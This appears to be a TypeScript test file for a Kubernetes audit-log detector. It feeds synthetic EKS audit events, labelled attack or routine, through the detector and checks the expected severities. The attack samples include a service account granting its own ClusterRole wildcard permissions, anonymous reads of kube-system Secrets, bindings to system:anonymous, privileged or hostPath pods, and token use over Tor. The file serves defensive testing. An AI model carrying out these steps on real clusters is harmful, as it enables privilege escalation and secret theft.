    name: "the aggregation controller's token giving its own ClusterRole '*'",
    kind: 'attack',
    event: event({
      user: sa('kube-system', 'clusterrole-aggregation-controller'),
      verb: 'patch',
      requestURI: `/apis/${RBAC}/v1/clusterroles/system:controller:clusterrole-aggregation-controller?fieldManager=kubectl-client-side-apply`,
      objectRef: ref('clusterroles', 'system:controller:clusterrole-aggregation-controller', undefined, RBAC),
      requestObject: { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] },
      responseObject: {
        kind: 'ClusterRole',
        apiVersion: `${RBAC}/v1`,
        metadata: { name: 'system:controller:clusterrole-aggregation-controller' },
        rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
      },
    }),
  },
  {
    // kube-controller-manager's aggregation controller rewriting admin's rules as CRDs add theirs.
    item: 'Lists create, update, delete operations to ClusterRoles',
    name: 'the clusterrole-aggregation-controller updating admin',
    kind: 'routine',
    event: event({
      user: sa('kube-system', 'clusterrole-aggregation-controller'),
      sourceIPs: [CONTROL_PLANE],
      userAgent: `${CONTROLLER_AGENT}clusterrole-aggregation-controller`,
      verb: 'patch',
      requestURI: `/apis/${RBAC}/v1/clusterroles/admin?fieldManager=clusterrole-aggregation-controller&force=true`,
      objectRef: ref('clusterroles', 'admin', undefined, RBAC),
      requestObject: { kind: 'ClusterRole', apiVersion: `${RBAC}/v1`, metadata: { name: 'admin' }, rules: AGGREGATED },
      responseObject: {
        kind: 'ClusterRole',
        apiVersion: `${RBAC}/v1`,
        metadata: { name: 'admin', labels: { 'kubernetes.io/bootstrapping': 'rbac-defaults' } },
        aggregationRule: { clusterRoleSelectors: [{ matchLabels: { 'rbac.authorization.k8s.io/aggregate-to-admin': 'true' } }] },
        rules: AGGREGATED,
      },
    }),
  },
  ...(['create', 'delete'] as const).map((verb) => ({
    item: 'Lists create, update, delete operations to ClusterRoleBindings',
    name: `${verb} of a ClusterRoleBinding by a person`,
    kind: 'attack' as const,
    event: rbacWrite(
      verb,
      'clusterrolebindings',
      'namespace-reader',
      undefined,
      verb === 'delete'
        ? undefined
        : {
            apiVersion: `${RBAC}/v1`,
            kind: 'ClusterRoleBinding',
            metadata: { name: 'namespace-reader' },
            roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'namespace-reader' },
            subjects: [{ kind: 'Group', name: 'platform-team', apiGroup: RBAC }],
          },
    ),
  })),
  {
    // A failed authentication: the apiserver audits it at ResponseStarted with an empty user.
    item: 'Plots unauthorized read operations against Secrets',
    name: 'a list of Secrets with a revoked token, 401',
    kind: 'attack',
    event: event({
      level: 'Metadata',
      stage: 'ResponseStarted',
      user: {},
      userAgent: CURL,
      verb: 'list',
      requestURI: '/api/v1/namespaces/kube-system/secrets',
      objectRef: { resource: 'secrets', namespace: 'kube-system', apiVersion: 'v1' },
      annotations: undefined,
      responseStatus: { metadata: {}, status: 'Failure', message: 'Unauthorized', reason: 'Unauthorized', code: 401 },
    }),
  },
  {
    item: 'List of failed anonymous requests',
    name: 'the anonymous user refused the Secrets of kube-system, 403',
    kind: 'attack',
    event: event({
      level: 'Metadata',
      user: ANONYMOUS,
      userAgent: CURL,
      verb: 'list',
      requestURI: '/api/v1/namespaces/kube-system/secrets',
      objectRef: { resource: 'secrets', namespace: 'kube-system', apiVersion: 'v1' },
      annotations: { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' },
      responseStatus: {
        metadata: {},
        status: 'Failure',
        message:
          'secrets is forbidden: User "system:anonymous" cannot list resource "secrets" in API group "" in the namespace "kube-system"',
        reason: 'Forbidden',
        details: { kind: 'secrets' },
        code: 403,
      },
    }),
  },
  {
    item: 'Create alarms for suspicious events',
    name: 'a person refused the nodes, 403',
    kind: 'attack',
    event: event({
      level: 'Request',
      user: PERSON,
      verb: 'list',
      requestURI: '/api/v1/nodes?limit=500',
      objectRef: { resource: 'nodes', apiVersion: 'v1' },
      annotations: { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' },
      responseStatus: {
        metadata: {},
        status: 'Failure',
        message: `nodes is forbidden: User "${ROLE}" cannot list resource "nodes" in API group "" at the cluster scope`,
        reason: 'Forbidden',
        details: { kind: 'nodes' },
        code: 403,
      },
    }),
  },
];

/** What each case comes out as, by its name: severity, severity_reason and the rules that fired. */
const OUTCOMES: Record<string, Outcome> = {
  'the tester: exec of kube-proxy -h in a kube-proxy pod': ['high', 'pod-interactive-access'],
  'the tester first lists kube-system pods to find kube-proxy': ['info', 'steady-state'],
  'kubectl logs of a kube-system pod': ['info', 'steady-state'],
  'the tester: Deployment mount with hostPath /etc': ['high', 'rule:sensitive-host-path', ['sensitive-host-path']],
  'the same Deployment with an emptyDir': ['medium', 'workload-change'],
  'the tester: Deployment privileged with SYS_ADMIN and SYS_PTRACE': [
    'high',
    'rule:privileged-container',
    ['privileged-container', 'dangerous-capabilities'],
  ],
  'a Deployment with privileged false': ['medium', 'workload-change'],
  'the tester: patch of the cluster-admin binding to default/default': ['high', 'rbac-binding-change', ['cluster-admin-binding']],
  'kubectl create rolebinding default-admin --clusterrole=admin --serviceaccount=dev:default': ['high', 'rbac-binding-change'],
  'view bound to a named monitoring account': ['high', 'rbac-binding-change'],
  'the tester: ClusterRoleBinding anonymous-binding to system:anonymous': ['high', 'rbac-binding-change', ['rbac-binding-to-system-group']],
  'the tester: RoleBinding anonymous-pod-reader to system:anonymous': ['high', 'rbac-binding-change', ['rbac-binding-to-system-group']],
  'the tester Role pod-reader itself (get, list, watch pods)': ['high', 'sensitive-resource-change'],
  'the tester: curl lists default pods with no token': ['high', 'rule:anonymous-request-allowed', ['anonymous-request-allowed']],
  'the anonymous user reads a Secret': ['high', 'rule:anonymous-request-allowed', ['anonymous-request-allowed']],
  'the anonymous user deletes the events of a namespace': [
    'high',
    'rule:anonymous-request-allowed',
    ['anonymous-request-allowed', 'events-deleted'],
  ],
  'the anonymous user deletes a Deployment': ['high', 'rule:anonymous-request-allowed', ['anonymous-request-allowed']],
  'the anonymous user creates a CronJob': ['high', 'rule:anonymous-request-allowed', ['anonymous-request-allowed']],
  'a load balancer probing /readyz with no token': ['info', 'steady-state'],
  'kubernetes/dashboard recommended.yaml creates its ClusterIP Service': ['info', 'steady-state'],
  'the kubernetes-dashboard Service patched to type LoadBalancer': ['high', 'rule:dashboard-exposed', ['dashboard-exposed']],
  'a shop front Service of type LoadBalancer': ['info', 'steady-state'],
  'kubeflow/manifests creates centraldashboard (ClusterIP)': ['info', 'steady-state'],
  'the centraldashboard Service patched to type LoadBalancer': ['high', 'rule:dashboard-exposed', ['dashboard-exposed']],
  "the dashboard chart's Ingress to kubernetes-dashboard-kong-proxy": ['medium', 'rule:dashboard-routed', ['dashboard-routed']],
  'an HTTPRoute to centraldashboard': ['medium', 'rule:dashboard-routed', ['dashboard-routed']],
  "a shop front's Ingress": ['info', 'steady-state'],
  'the tester: a long-lived token Secret for default/default': ['high', 'sensitive-resource-change', ['service-account-token-secret']],
  'the tester: torify curl $APISERVER/api with that token': [
    'medium',
    'rule:service-account-from-public-address',
    ['service-account-from-public-address'],
  ],
  'the tester: kubectl create serviceaccount tester-service-account-<uuid>': ['high', 'sensitive-resource-change'],
  'the service account controller creating default in a new namespace': ['info', 'routine-controller-reconcile'],
  'EKS writing the load balancer address into the Service status': ['info', 'steady-state'],
  'kubectl edit adds a role to mapRoles': ['high', 'rule:eks-aws-auth-configmap-change', ['eks-aws-auth-configmap-change']],
  'eksctl reading aws-auth': ['low', 'sensitive-read'],
  'a ValidatingWebhookConfiguration created (201)': ['high', 'rule:admission-webhook-change', ['admission-webhook-change']],
  // Its update of its own webhook, the CA bundle set and its Service unchanged (was high, an alert).
  "cert-manager's cainjector writing the caBundle of its own webhook": [
    'low',
    'routine-webhook-ca-injection',
    ['admission-webhook-change'],
  ],
  'create of a Role by a person': ['high', 'sensitive-resource-change'],
  'patch of a Role by a person': ['high', 'sensitive-resource-change'],
  'delete of a Role by a person': ['high', 'sensitive-resource-change'],
  'create of a RoleBinding by a person': ['high', 'rbac-binding-change'],
  'delete of a RoleBinding by a person': ['high', 'rbac-binding-change'],
  'create of a ClusterRole by a person': ['high', 'sensitive-resource-change'],
  'update of a ClusterRole by a person': ['high', 'sensitive-resource-change'],
  'delete of a ClusterRole by a person': ['high', 'sensitive-resource-change'],
  "the aggregation controller's token giving its own ClusterRole '*'": [
    'high',
    'sensitive-resource-change',
    ['service-account-from-public-address', 'rbac-escalation-verbs-or-wildcards'],
  ],
  'the clusterrole-aggregation-controller updating admin': ['info', 'routine-controller-reconcile'],
  'create of a ClusterRoleBinding by a person': ['high', 'rbac-binding-change'],
  'delete of a ClusterRoleBinding by a person': ['high', 'rbac-binding-change'],
  'a list of Secrets with a revoked token, 401': ['medium', 'request-denied-or-failed'],
  'the anonymous user refused the Secrets of kube-system, 403': ['medium', 'request-denied-or-failed'],
  'a person refused the nodes, 403': ['medium', 'request-denied-or-failed'],
};

describe('GuardDuty EKS finding types and the EKS Best Practices Guide through serve', () => {
  const cases = [...GUARDDUTY, ...THREAT_LIST_STEPS, ...ROUTINE, ...BPG];
  const served = servedOnce(
    'aisoc-guardduty-',
    SECRET,
    'prod-eks',
    cases.map((c) => c.event),
  );

  it('accepts and stores every event', () => {
    expect(served.status).toBe(200);
    expect(served.answer).toMatchObject({ accepted: cases.length, rejected: 0 });
    expect(served.records).toHaveLength(cases.length);
    expect(Object.keys(OUTCOMES).sort()).toEqual(cases.map((c) => c.name).sort());
  });

  it('has an attack for every type an audit event decides and every query of the guide, and no other item', () => {
    const decided = guardduty.filter(([, by]) => by === 'audit').map(([t]) => t);
    expect(decided).toHaveLength(12);
    const attacked = new Set(cases.filter((c) => c.kind === 'attack').map((c) => c.item));
    expect([...attacked].sort()).toEqual([...decided, ...bpg].sort());
    const known = new Set([...guardduty.map(([t]) => t), ...bpg]);
    expect(cases.filter((c) => !known.has(c.item)).map((c) => c.item)).toEqual([]);
    // The others are out for a reason the listing states: a threat list or a learned baseline.
    expect(new Set(guardduty.map(([, by]) => by))).toEqual(new Set(['audit', 'threat-intel', 'custom-list', 'baseline']));
  });

  it('docs/detection-rules.md answers every finding type and every query by name', () => {
    const doc = readFileSync(join(FIXTURES, '..', '..', 'docs', 'detection-rules.md'), 'utf8').replace(/\s+/g, ' ');
    expect([...guardduty.map(([t]) => t), ...bpg].filter((t) => !doc.includes(t))).toEqual([]);
  });

  for (const c of cases) {
    it(`${c.kind}: ${c.item}: ${c.name}`, () => {
      const outcome = OUTCOMES[c.name] as Outcome;
      served.check(c.event, outcome);
      const [severity, reason] = outcome;
      if (c.kind === 'attack') {
        expect(['medium', 'high'], 'an attack is medium or high').toContain(severity);
        expect(reason, 'named by a rule or a table row').not.toBe('steady-state');
      }
      if (c.kind === 'routine') expect(['info', 'low'], 'routine traffic is neither medium nor high').toContain(severity);
    });
  }
});
